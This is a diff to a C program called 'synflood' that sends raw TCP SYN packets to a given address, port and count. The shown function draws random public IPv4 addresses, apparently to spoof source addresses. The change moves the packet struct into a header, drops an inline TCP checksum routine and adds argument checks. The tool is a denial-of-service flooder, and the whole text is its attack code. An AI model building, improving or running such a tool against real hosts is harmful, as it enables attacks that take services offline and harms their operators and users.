@@ -9,21 +9,14 @@
  * Exit:    0; 1 a SYN could not be sent; 2 usage
  */
 #define _GNU_SOURCE
-#include <arpa/inet.h>
 #include <errno.h>
-#include <netinet/ip.h>
-#include <netinet/tcp.h>
 #include <sched.h>
-#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
 
-struct syn {
-	struct iphdr ip;
-	struct tcphdr tcp;
-};
+#include "syn.h"
 
 static uint64_t state = 88172645463325252ull;
 
@@ -45,19 +38,6 @@ static uint32_t any_address(void)
 		net = a >> 24;
 	} while (!net || net == 10 || net == 127 || net >= 224);
 	return htonl(a);
-}
-
-static uint16_t tcp_sum(const struct syn *s)
-{
-	const unsigned char *p = (const void *)&s->ip.saddr;
-	uint32_t sum = IPPROTO_TCP + sizeof(s->tcp);
-	size_t i;
-
-	/* addresses and the header behind them */
-	for (i = 0; i < 8 + sizeof(s->tcp); i += 2)
-		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
-	sum = (sum & 0xffff) + (sum >> 16);
-	return htons((uint16_t) ~((sum & 0xffff) + (sum >> 16)));
 }
 
 static void make_syn(struct syn *s, in_addr_t to, uint16_t port)
@@ -86,7 +66,8 @@ int main(int argc, char **argv)
 	struct syn s;
 	int fd;
 
-	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
+	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || atoi(argv[2]) < 1 ||
+	    atoi(argv[2]) > 65535 || atol(argv[3]) < 1) {
 		fprintf(stderr, "usage: synflood ADDRESS PORT COUNT\n");
 		return 2;
 	}
